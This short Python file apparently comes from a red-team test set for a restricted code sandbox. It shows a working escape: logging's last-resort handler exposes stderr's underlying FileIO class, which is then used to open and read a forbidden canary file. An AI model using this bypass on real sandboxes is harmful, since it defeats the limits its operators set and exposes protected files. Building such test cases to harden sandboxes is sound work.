# Technique: an allowed module hands out a host object that holds a real file: logging's last-resort handler
#            writes to sys.stderr, whose .buffer.raw is an _io.FileIO; its class opens any path
# Goal: a (read /tmp/canary/secret.txt)
# Source: written for codeloop (type() of a host object as a constructor of a forbidden class)
# Requires: stdlib (logging - in the data-agent profile)
import logging

buffer = logging.lastResort.stream.buffer
raw = getattr(buffer, "raw", buffer)  # unbuffered stderr has no BufferedWriter in between
reader = type(raw)("/tmp/canary/secret.txt")
print(reader.read().decode())
